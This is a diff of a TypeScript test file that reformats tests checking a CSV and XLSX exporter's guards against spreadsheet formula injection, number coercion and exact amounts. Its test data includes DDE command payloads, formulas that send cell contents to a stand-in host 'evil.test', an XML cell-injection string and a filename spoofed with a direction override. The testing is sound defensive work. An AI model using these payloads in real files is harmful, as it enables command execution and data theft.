@@ -10,65 +10,167 @@ import type { Column } from './source.ts';
 
 /** What spreadsheets run, in the spellings in which it is smuggled in. */
 const FORMULAS = [
-  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.test?"&A1,"tıkla")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=IMPORTXML("http://evil.test","//a")',
-  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\u2003@x', '\0=1', '＝1+1', '＋1', '－1', '＠x', '\t', '\r\n', '=', '+', '-', '@', '-1', '+90 532 000 00 00', '=WEBSERVICE("http://evil.test")', '"=1+1'.slice(1),
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.test?"&A1,"tıkla")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=IMPORTXML("http://evil.test","//a")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u2003@x',
+  '\0=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  '\t',
+  '\r\n',
+  '=',
+  '+',
+  '-',
+  '@',
+  '-1',
+  '+90 532 000 00 00',
+  '=WEBSERVICE("http://evil.test")',
+  '"=1+1'.slice(1),
 ];
-const COLUMNS: Column[] = [{ key: 'a', kind: 'text', width: 1 }, { key: 'b', kind: 'text', width: 1 }, { key: 'state', kind: 'code', width: 1 }];
+const COLUMNS: Column[] = [
+  { key: 'a', kind: 'text', width: 1 },
+  { key: 'b', kind: 'text', width: 1 },
+  { key: 'state', kind: 'code', width: 1 },
+];
 const frame = { ...FRAME, role: 'clerk' as const, by: 'Ayşe', zone: 'Europe/Istanbul' };
 
 describe('a text that a spreadsheet would run', () => {
   it.each(FORMULAS)('is shown as text in each form: %j', (text) => {
-    for (const cells of [readCsv(excelCsv(COLUMNS, frame).row([text, 'x', text]), ';'), readCsv(machineCsv(COLUMNS).row([text, 'x', text]), ',')]) expect(cells).toEqual([[`'${text}`, 'x', `'${text}`]]);
+    for (const cells of [
+      readCsv(excelCsv(COLUMNS, frame).row([text, 'x', text]), ';'),
+      readCsv(machineCsv(COLUMNS).row([text, 'x', text]), ','),
+    ])
+      expect(cells).toEqual([[`'${text}`, 'x', `'${text}`]]);
     const [row] = readSheet(sheetRows(COLUMNS, frame).row([text, 'x', text]));
-    expect(row!.map(({ number, style }) => [number, style])).toEqual([[false, 3], [false, 2], [false, 3]]);
+    expect(row!.map(({ number, style }) => [number, style])).toEqual([
+      [false, 3],
+      [false, 2],
+      [false, 3],
+    ]);
     expect(row![0]!.text).toBe(text.replace('\0', '\uFFFD'));
   });
 
   it('nor does one that was stored with hidden marks of direction turn what stands beside it around', () => {
     const name = 'Ali \u202egnp.exe';
-    for (const row of [excelCsv(COLUMNS, frame).row([name, 'x', name]), machineCsv(COLUMNS).row([name, 'x', name]), sheetRows(COLUMNS, frame).row([name, 'x', name])]) {
+    for (const row of [
+      excelCsv(COLUMNS, frame).row([name, 'x', name]),
+      machineCsv(COLUMNS).row([name, 'x', name]),
+      sheetRows(COLUMNS, frame).row([name, 'x', name]),
+    ]) {
       expect(row).not.toContain('\u202e');
       expect(row.split('Ali [U+202E]gnp.exe')).toHaveLength(3);
     }
   });
 
   it('and no other text is touched by that', () => {
-    for (const text of ['ABC Ltd.', 'a=b', 'İş Bankası', '1-2', 'TR330006100519786457841326', "'", 'ö@x', '(5)', '“=”']) expect(guarded(text)).toBe(text);
+    for (const text of [
+      'ABC Ltd.',
+      'a=b',
+      'İş Bankası',
+      '1-2',
+      'TR330006100519786457841326',
+      "'",
+      'ö@x',
+      '(5)',
+      '“=”',
+    ])
+      expect(guarded(text)).toBe(text);
   });
 
   it('never leaves its cell, whatever else is in it', () => {
-    const texts = fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...FORMULAS, '"', ';', ',', '\r\n', '","=1', '</t></is></c><c><f>1+1</f></c>', ']]>')), { minLength: 3, maxLength: 3 });
-    fc.assert(fc.property(texts, (cells) => {
-      for (const [lines, mark] of [[excelCsv(COLUMNS, frame), ';'], [machineCsv(COLUMNS), ',']] as const) {
-        const rows = readCsv(lines.row(cells), mark);
-        expect(rows.length).toBe(1);
-        expect(rows[0]!.map((text) => text.replace(/^'/, ''))).toEqual(cells.map((text) => text.replace(/^'/, '')));
-        for (const text of rows[0]!) expect(isFormula(text)).toBe(false);
-      }
-      const xml = sheetRows(COLUMNS, frame).row(cells);
-      expect(xml).not.toMatch(/<f[ >]/);
-      const [row] = readSheet(xml);
-      expect(row!.length).toBe(3);
-    }), { numRuns: 500 });
+    const texts = fc.array(
+      fc.oneof(
+        fc.string({ unit: 'binary' }),
+        fc.constantFrom(
+          ...FORMULAS,
+          '"',
+          ';',
+          ',',
+          '\r\n',
+          '","=1',
+          '</t></is></c><c><f>1+1</f></c>',
+          ']]>',
+        ),
+      ),
+      { minLength: 3, maxLength: 3 },
+    );
+    fc.assert(
+      fc.property(texts, (cells) => {
+        for (const [lines, mark] of [
+          [excelCsv(COLUMNS, frame), ';'],
+          [machineCsv(COLUMNS), ','],
+        ] as const) {
+          const rows = readCsv(lines.row(cells), mark);
+          expect(rows.length).toBe(1);
+          expect(rows[0]!.map((text) => text.replace(/^'/, ''))).toEqual(
+            cells.map((text) => text.replace(/^'/, '')),
+          );
+          for (const text of rows[0]!) expect(isFormula(text)).toBe(false);
+        }
+        const xml = sheetRows(COLUMNS, frame).row(cells);
+        expect(xml).not.toMatch(/<f[ >]/);
+        const [row] = readSheet(xml);
+        expect(row!.length).toBe(3);
+      }),
+      { numRuns: 500 },
+    );
   });
 });
 
 it('a text of which Excel would make a number or a date stays a text; in the form for programs it is untouched', () => {
-  for (const text of ['2506172605407833407', '00123', '1-2', '01.02.2026', '12:30', '1,5', '7E3', '10000000146', '4410270001']) {
+  for (const text of [
+    '2506172605407833407',
+    '00123',
+    '1-2',
+    '01.02.2026',
+    '12:30',
+    '1,5',
+    '7E3',
+    '10000000146',
+    '4410270001',
+  ]) {
     expect(forcedText(text)).toBe(`'${text}`);
-    expect(machineCsv(COLUMNS).row([text, null, null])).toBe(text.includes(',') ? `"${text}",,\r\n` : `${text},,\r\n`);
+    expect(machineCsv(COLUMNS).row([text, null, null])).toBe(
+      text.includes(',') ? `"${text}",,\r\n` : `${text},,\r\n`,
+    );
   }
-  for (const text of ['TR330006100519786457841326', 'A12', '12 adet', 'ABC', '7E3F']) expect(forcedText(text)).toBe(text);
+  for (const text of ['TR330006100519786457841326', 'A12', '12 adet', 'ABC', '7E3F'])
+    expect(forcedText(text)).toBe(text);
 });
 
 it('amounts are exact, whatever their size and sign', () => {
-  fc.assert(fc.property(fc.bigInt({ min: -(10n ** 18n), max: 10n ** 18n }), (minor) => {
-    const [whole, fraction] = decimal(minor.toString(), ',').split(',');
-    expect(fraction).toMatch(/^\d\d$/);
-    expect(BigInt(`${whole}${fraction}`)).toBe(minor);
-  }));
-  const [row] = readSheet(sheetRows([{ key: 'x', kind: 'minor', width: 1 }, { key: 'y', kind: 'minor', width: 1 }], frame).row(['1240000', '1234567890123456']));
-  expect(row).toEqual([{ text: '12400.00', number: true, style: 4 }, { text: '12345678901234.56', number: false, style: 2 }]);
+  fc.assert(
+    fc.property(fc.bigInt({ min: -(10n ** 18n), max: 10n ** 18n }), (minor) => {
+      const [whole, fraction] = decimal(minor.toString(), ',').split(',');
+      expect(fraction).toMatch(/^\d\d$/);
+      expect(BigInt(`${whole}${fraction}`)).toBe(minor);
+    }),
+  );
+  const [row] = readSheet(
+    sheetRows(
+      [
+        { key: 'x', kind: 'minor', width: 1 },
+        { key: 'y', kind: 'minor', width: 1 },
+      ],
+      frame,
+    ).row(['1240000', '1234567890123456']),
+  );
+  expect(row).toEqual([
+    { text: '12400.00', number: true, style: 4 },
+    { text: '12345678901234.56', number: false, style: 2 },
+  ]);
 });
 
 describe('times', () => {
@@ -76,7 +178,10 @@ describe('times', () => {
     const instant = '2026-03-05 21:30:00.123456+00';
     expect(wallClock('Europe/Istanbul').text(instant)).toBe('06.03.2026 00:30:00');
     // 46087 is 6 March 2026 in a spreadsheet.
-    expect(Number(wallClock('Europe/Istanbul').serial(instant))).toBeCloseTo(46_087 + 30 / 1_440, 6);
+    expect(Number(wallClock('Europe/Istanbul').serial(instant))).toBeCloseTo(
+      46_087 + 30 / 1_440,
+      6,
+    );
     expect(isoInstant(instant)).toBe('2026-03-05T21:30:00.123456Z');
   });
 
